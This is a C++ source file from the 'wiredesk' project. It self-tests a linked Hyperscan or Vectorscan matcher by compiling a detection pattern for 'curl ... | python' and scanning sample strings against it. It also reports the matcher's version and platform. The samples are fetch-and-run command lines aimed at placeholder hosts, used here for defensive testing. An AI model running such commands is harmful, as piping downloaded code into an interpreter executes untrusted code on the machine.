#include "stages/matcher_self_test.h"

#include "config/check.h"
#include "stages/hyperscan.h"

namespace wiredesk {

absl::Status TestMatcher() {
  if (hs_valid_platform() != HS_SUCCESS) {
    return absl::FailedPreconditionError("the matcher can't run on this CPU: it needs SSSE3");
  }
  hs_database_t* raw_database = nullptr;
  hs_compile_error_t* error = nullptr;
  const hs_error_t result = hs_compile("curl.*\\|\\s*python", HS_FLAG_DOTALL, HS_MODE_BLOCK,
                                       nullptr, &raw_database, &error);
  if (result != HS_SUCCESS) {
    hs_free_compile_error(error);
    return absl::FailedPreconditionError("the linked matcher can't compile its self-test");
  }
  const HyperscanDatabase database(raw_database);
  hs_scratch_t* raw_scratch = nullptr;
  WIREDESK_CHECK(hs_alloc_scratch(database.get(), &raw_scratch) == HS_SUCCESS);
  const HyperscanScratch scratch(raw_scratch);
  const auto count = [](unsigned, unsigned long long, unsigned long long, unsigned, void* found) {
    *static_cast<bool*>(found) = true;
    return 0;
  };
  int matched = 0;
  for (std::string_view text :
       {"curl http://xxx:8000/ 2>&1 | python", "curl http://xxxx:8000/ 2>&1 | python",
        "curl http://vader:8080/ 2>&1 | python"}) {
    bool found = false;
    hs_scan(database.get(), text.data(), static_cast<unsigned>(text.size()), 0, scratch.get(),
            count, &found);
    matched += found;
  }
  if (matched == 3) return absl::OkStatus();
  return absl::FailedPreconditionError(
      "the linked matcher loses matches (VectorCamp/vectorscan#382): link Hyperscan, or Vectorscan "
      "5.4.13 or newer");
}

std::string_view MatcherVersion() { return hs_version(); }

std::string MatcherPlatform() {
  hs_platform_info_t platform{};
  if (hs_populate_platform(&platform) != HS_SUCCESS) return "unknown";
  return std::to_string(platform.tune) + " " + std::to_string(platform.cpu_features);
}

}  // namespace wiredesk
